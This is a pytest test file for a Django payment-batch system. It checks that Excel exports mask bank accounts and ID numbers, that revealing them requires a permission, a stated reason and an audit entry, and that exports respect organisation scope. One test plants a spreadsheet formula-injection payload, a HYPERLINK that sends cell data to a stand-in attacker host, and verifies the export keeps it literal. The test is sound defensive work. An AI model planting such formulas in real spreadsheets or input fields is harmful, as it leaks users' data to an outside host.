"""Exports of batches and items: masked by default, reveal audited, text/number cells,
formulas stay literal, scoped; re-issue over the API; live figures on the batch page."""

from __future__ import annotations

import io
import zipfile
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from apps.core.excel import cell_text
from apps.core.models import AuditLog
from apps.core.scoping import scopes_disabled
from apps.members.models import Member
from apps.payments.enums import BatchStatus, ItemStatus
from apps.payments.models import PaymentBatch, PaymentItem
from apps.payments.services import payment_batch_approve, payment_batch_submit
from tests.payments.test_admin import form_post
from tests.payments.test_api import client_for, post

pytestmark = pytest.mark.django_db

ACCOUNTS = {0: "6222020200100000007", 1: "6217000010002223334", 2: "6228480012345678901"}
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def body(response) -> bytes:
    assert response.status_code == 200, (response.status_code, getattr(response, "content", b"")[:300])
    assert "spreadsheetml" in response["Content-Type"] and "attachment" in response["Content-Disposition"]
    return b"".join(response.streaming_content) if response.streaming else response.content


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "\n".join(archive.read(n).decode() for n in archive.namelist()
                         if n.startswith("xl/worksheets/") or n == "xl/sharedStrings.xml")


def rows(data: bytes) -> list[tuple]:
    book = load_workbook(io.BytesIO(data))
    return [tuple(cell_text(c) for c in row) for row in book.active.iter_rows(values_only=True)]


@pytest.fixture
def settled(make_batch, approvers, password):
    """An approved 海淀 batch of three (accounts frozen): two paid, one failed."""
    batch = make_batch(3, amount="123.45", accounts=ACCOUNTS)
    with scopes_disabled():
        payment_batch_submit(batch=batch, actor=batch.created_by)
        payment_batch_approve(batch=batch, actor=approvers[0], password=password)
        items = list(PaymentItem.objects.filter(batch=batch).order_by("id"))
        PaymentItem.objects.filter(pk__in=[i.pk for i in items[:2]]).update(status=ItemStatus.PAID)
        PaymentItem.objects.filter(pk=items[2].pk).update(status=ItemStatus.FAILED, failure_reason="账户冻结")
        PaymentBatch.objects.filter(pk=batch.pk).update(status=BatchStatus.COMPLETED_WITH_FAILURES)
        return PaymentBatch.objects.get(pk=batch.pk)


def items_url(batch, query=""):
    return f"/api/v1/payment-batches/{batch.pk}/items/export/{query}"


def export_logs(**data):
    with scopes_disabled():
        return [e for e in AuditLog.objects.filter(action="payment_batch.export_items")
                if all(e.data.get(k) == v for k, v in data.items())]


def test_items_export_is_masked_by_default(settled, users):
    data = body(client_for(users["haidian"]).get(items_url(settled)))
    xml = sheet_xml(data)
    with scopes_disabled():
        ids = [m.id_number for m in Member.objects.filter(payment_items__batch=settled)]
    for account in ACCOUNTS.values():
        assert account not in xml and account[:6] + "*" * 9 + account[-4:] in xml
    for id_number in ids:
        assert id_number not in xml
    assert export_logs(reveal=False, rows=3, via="api")


def test_items_export_cells_text_and_numbers(settled, users):
    data = body(client_for(users["haidian_clerk"]).get(items_url(settled)))
    table = rows(data)
    assert table[0][:7] == ("批次", "银行流水参考号", "姓名", "身份证号", "金额（元）", "开户银行", "银行账号")
    with scopes_disabled():
        references = {str(r) for r in
                      PaymentItem.objects.filter(batch=settled).values_list("bank_reference", flat=True)}
    assert {row[1] for row in table[1:]} == references
    assert sorted(row[7] for row in table[1:]) == ["失败", "已到账", "已到账"]
    assert [row[8] for row in table[1:] if row[7] == "失败"] == ["账户冻结"]
    amounts = [row[4] for row in table[1:]]
    assert all(isinstance(a, (int, float)) for a in amounts)
    assert Decimal(str(round(sum(amounts), 2))) == settled.total_amount == Decimal("370.35")
    sheet = load_workbook(io.BytesIO(data)).active
    for row in sheet.iter_rows(min_row=2):
        for col in (1, 3, 6):  # reference, ID, account
            assert row[col].data_type == "s" and row[col].number_format == "@", (col, row[col].value)


def test_items_export_reveal_is_a_post_with_a_reason_needs_the_permission_and_is_audited(settled, users):
    reveal = items_url(settled).replace("items/export/", "items/export/reveal/")
    get = sheet_xml(body(client_for(users["haidian"]).get(items_url(settled, "?reveal=1"))))
    assert not any(account in get for account in ACCOUNTS.values())  # a GET is always masked
    refused = post(client_for(users["haidian_clerk"]), reveal, {"reason": "核对"})
    assert refused.status_code == 403
    assert post(client_for(users["haidian"]), reveal, {}).status_code == 400  # the reason is required
    assert export_logs(reveal=True) == []

    xml = sheet_xml(body(post(client_for(users["haidian"]), reveal, {"reason": "核对账号"})))
    assert all(account in xml for account in ACCOUNTS.values())
    [entry] = export_logs(reveal=True)
    assert entry.actor_username == "t_haidian" and entry.object_id == str(settled.pk)
    assert entry.data["reason"] == "核对账号"


def test_formula_payloads_come_back_literal(settled, users):
    with scopes_disabled():
        PaymentBatch.objects.filter(pk=settled.pk).update(title=FORMULA)
        member = Member.objects.filter(payment_items__batch=settled).order_by("id").first()
        Member.objects.filter(pk=member.pk).update(name="=1+2")
    client = client_for(users["haidian"])
    for data in (body(client.get(items_url(settled))), body(client.get("/api/v1/payment-batches/export/"))):
        assert "<f>" not in sheet_xml(data)
        values = {v for row in rows(data) for v in row}
        assert FORMULA in values
    assert "=1+2" in {v for row in rows(body(client.get(items_url(settled)))) for v in row}


def test_batches_export_is_scoped(settled, make_batch, tree, users):
    foreign = make_batch(1, org=tree.chaoyang, actor=users["chaoyang"])
    with scopes_disabled():
        PaymentBatch.objects.filter(pk=foreign.pk).update(title="朝阳专属批次")
    haidian = client_for(users["haidian"])
    table = rows(body(haidian.get("/api/v1/payment-batches/export/")))
    assert table[0][:6] == ("标题", "用途", "发放单位", "状态", "笔数", "总金额（元）")
    assert [row[0] for row in table[1:]] == ["2026 春节慰问"]
    assert table[1][3] == "部分失败" and table[1][4] == 3 and table[1][5] == pytest.approx(370.35)
    assert "朝阳专属批次" not in sheet_xml(body(haidian.get("/api/v1/payment-batches/export/?status=draft")))
    assert haidian.get(items_url(foreign)).status_code == 404
    assert post(haidian, items_url(foreign).replace("items/export/", "items/export/reveal/"),
                {"reason": "核对"}).status_code == 404
    municipal = rows(body(client_for(users["municipal"]).get("/api/v1/payment-batches/export/")))
    assert {"朝阳专属批次", "2026 春节慰问"} <= {row[0] for row in municipal}
    assert client_for(users["teacher"]).get("/api/v1/payment-batches/export/").status_code == 403


def test_admin_exports(settled, users):
    page = reverse("admin:payments_paymentbatch_change", args=[settled.pk])
    masked = reverse("admin:payments_paymentbatch_export_items", args=[settled.pk])
    full = reverse("admin:payments_paymentbatch_export_items_full", args=[settled.pk])
    clerk = client_for(users["haidian_clerk"])
    text = clerk.get(page).content.decode()
    assert masked in text and full not in text
    assert ACCOUNTS[0] not in sheet_xml(body(clerk.get(masked)))
    assert clerk.get(full).status_code == 403

    admin = client_for(users["haidian"])
    assert full in admin.get(page).content.decode()
    confirm = admin.get(full)
    assert confirm.status_code == 200 and export_logs(reveal=True) == []  # a GET only asks
    assert 'name="reason"' in confirm.content.decode()
    without = form_post(admin, full)  # no reason: refused, nothing exported
    assert "attachment" not in without.get("Content-Disposition", "") and export_logs(reveal=True) == []
    xml = sheet_xml(body(form_post(admin, full, {"reason": "核对账号"})))
    assert ACCOUNTS[1] in xml and len(export_logs(reveal=True, via="admin")) == 1

    changelist = reverse("admin:payments_paymentbatch_changelist")
    response = form_post(admin, changelist, {"action": "export_batches", "_selected_action": [settled.pk]})
    assert rows(body(response))[1][0] == "2026 春节慰问"


def test_api_reissue_failed_items_into_a_new_draft(settled, users):
    url = f"/api/v1/payment-batches/{settled.pk}/reissue/"
    assert post(client_for(users["teacher"]), url).status_code == 403
    maker = client_for(users["haidian_clerk"])
    created = post(maker, url, {"title": "补发一次"})
    assert created.status_code == 201, created.content
    new = created.json()
    assert (new["status"], new["title"], new["reissue_of"], new["item_count"], new["total_amount"]) == (
        "draft", "补发一次", settled.pk, 1, "123.45")
    again = post(maker, url)
    assert again.status_code == 400 and "没有需要补发" in again.content.decode()
    assert post(client_for(users["chaoyang"]), url).status_code == 404


def test_batch_page_figures_refresh_with_the_bar(settled, users):
    from apps.core.enums import JobKind, JobStatus
    from apps.core.models import Job

    with scopes_disabled():
        job = Job.objects.create(kind=JobKind.PAYMENT_DISBURSE, organization=settled.organization,
                                 started_by=users["haidian"], status=JobStatus.RUNNING, done=2, total=3,
                                 result={"paid": 2, "failed": 0, "paid_sum": "246.90", "note": "<b>x</b>"})
        PaymentBatch.objects.filter(pk=settled.pk).update(job=job)
    client = client_for(users["haidian"])
    text = client.get(reverse("admin:payments_paymentbatch_change", args=[settled.pk])).content.decode()
    for field in ("paid", "failed", "paid_sum"):
        assert f'data-job-field="{field}"' in text
    status = client.get(f"/jobs/{job.pk}/status/").json()
    assert status["result"] == {"paid": 2, "failed": 0, "paid_sum": "246.90"}  # figures only
    from django.contrib.staticfiles import finders

    with open(finders.find("js/job-progress.js"), encoding="utf-8") as script:
        assert "data-job-field" in script.read()
